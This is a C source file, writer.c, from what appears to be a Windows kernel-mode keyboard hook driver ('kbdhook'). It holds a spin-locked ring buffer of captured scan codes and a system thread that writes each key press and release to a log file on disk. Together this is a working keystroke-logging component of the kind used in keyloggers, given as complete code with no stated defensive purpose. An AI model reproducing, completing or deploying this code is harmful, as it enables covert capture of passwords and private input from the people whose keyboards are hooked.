/*
 * writer.c - system thread that flushes captured scan codes to disk
 */
#include "kbdhook.h"

static KSTART_ROUTINE KhWriterThread;

static const CHAR Hex[] = "0123456789ABCDEF";

VOID KhPushKey(USHORT MakeCode, USHORT Flags)
{
    KIRQL irql;
    ULONG next;

    KeAcquireSpinLock(&g_Kh.RingLock, &irql);
    next = (g_Kh.Head + 1) % KH_RING_SIZE;
    if (next != g_Kh.Tail) {            /* drop when full */
        g_Kh.Ring[g_Kh.Head].MakeCode = MakeCode;
        g_Kh.Ring[g_Kh.Head].Flags = Flags;
        g_Kh.Head = next;
    }
    KeReleaseSpinLock(&g_Kh.RingLock, irql);

    KeSetEvent(&g_Kh.DataEvent, IO_NO_INCREMENT, FALSE);
}

static ULONG KhPopKeys(KH_KEY *Out, ULONG Max)
{
    KIRQL irql;
    ULONG n = 0;

    KeAcquireSpinLock(&g_Kh.RingLock, &irql);
    while (n < Max && g_Kh.Tail != g_Kh.Head) {
        Out[n++] = g_Kh.Ring[g_Kh.Tail];
        g_Kh.Tail = (g_Kh.Tail + 1) % KH_RING_SIZE;
    }
    KeReleaseSpinLock(&g_Kh.RingLock, irql);
    return n;
}

static HANDLE KhOpenLog(VOID)
{
    UNICODE_STRING path = RTL_CONSTANT_STRING(KH_LOGFILE);
    OBJECT_ATTRIBUTES oa;
    IO_STATUS_BLOCK iosb;
    HANDLE h = NULL;
    NTSTATUS status;

    InitializeObjectAttributes(&oa, &path, OBJ_KERNEL_HANDLE | OBJ_CASE_INSENSITIVE, NULL, NULL);
    status = ZwCreateFile(&h, FILE_APPEND_DATA | SYNCHRONIZE, &oa, &iosb, NULL,
                          FILE_ATTRIBUTE_NORMAL, FILE_SHARE_READ, FILE_OPEN_IF,
                          FILE_SYNCHRONOUS_IO_NONALERT | FILE_NON_DIRECTORY_FILE, NULL, 0);
    if (!NT_SUCCESS(status)) {
        KDBG(("kbdhook: cannot open log 0x%08X\n", status));
        return NULL;
    }
    return h;
}

static VOID KhWriterThread(PVOID Context)
{
    PVOID objects[2];
    KH_KEY keys[64];
    CHAR line[64 * 6];
    HANDLE log;

    UNREFERENCED_PARAMETER(Context);

    objects[0] = &g_Kh.StopEvent;
    objects[1] = &g_Kh.DataEvent;

    log = KhOpenLog();

    for (;;) {
        NTSTATUS status = KeWaitForMultipleObjects(2, objects, WaitAny, Executive, KernelMode,
                                                   FALSE, NULL, NULL);
        ULONG n, i, len = 0;

        if (status == STATUS_WAIT_0)
            break;

        n = KhPopKeys(keys, RTL_NUMBER_OF(keys));
        for (i = 0; i < n; i++) {
            /* "1E d\r\n" - no CRT here, format by hand */
            line[len++] = Hex[(keys[i].MakeCode >> 4) & 0xF];
            line[len++] = Hex[keys[i].MakeCode & 0xF];
            line[len++] = ' ';
            line[len++] = (keys[i].Flags & KEY_BREAK) ? 'u' : 'd';
            line[len++] = '\r';
            line[len++] = '\n';
        }

        if (log && len) {
            IO_STATUS_BLOCK iosb;
            ZwWriteFile(log, NULL, NULL, NULL, &iosb, line, len, NULL, NULL);
        }
    }

    if (log)
        ZwClose(log);

    PsTerminateSystemThread(STATUS_SUCCESS);
}

NTSTATUS KhStartWriter(VOID)
{
    OBJECT_ATTRIBUTES oa;
    HANDLE thread;
    NTSTATUS status;

    KeInitializeEvent(&g_Kh.StopEvent, NotificationEvent, FALSE);
    KeInitializeEvent(&g_Kh.DataEvent, SynchronizationEvent, FALSE);

    InitializeObjectAttributes(&oa, NULL, OBJ_KERNEL_HANDLE, NULL, NULL);
    status = PsCreateSystemThread(&thread, THREAD_ALL_ACCESS, &oa, NULL, NULL,
                                  KhWriterThread, NULL);
    if (!NT_SUCCESS(status))
        return status;

    status = ObReferenceObjectByHandle(thread, THREAD_ALL_ACCESS, *PsThreadType, KernelMode,
                                       (PVOID *)&g_Kh.Writer, NULL);
    if (!NT_SUCCESS(status)) {
        /* should never happen; make the thread quit so it doesn't outlive us */
        KeSetEvent(&g_Kh.StopEvent, IO_NO_INCREMENT, FALSE);
        ZwWaitForSingleObject(thread, FALSE, NULL);
    }
    ZwClose(thread);
    return status;
}

VOID KhStopWriter(VOID)
{
    if (g_Kh.Writer == NULL)
        return;

    KeSetEvent(&g_Kh.StopEvent, IO_NO_INCREMENT, FALSE);
    KeWaitForSingleObject(g_Kh.Writer, Executive, KernelMode, FALSE, NULL);
    ObDereferenceObject(g_Kh.Writer);
    g_Kh.Writer = NULL;
}
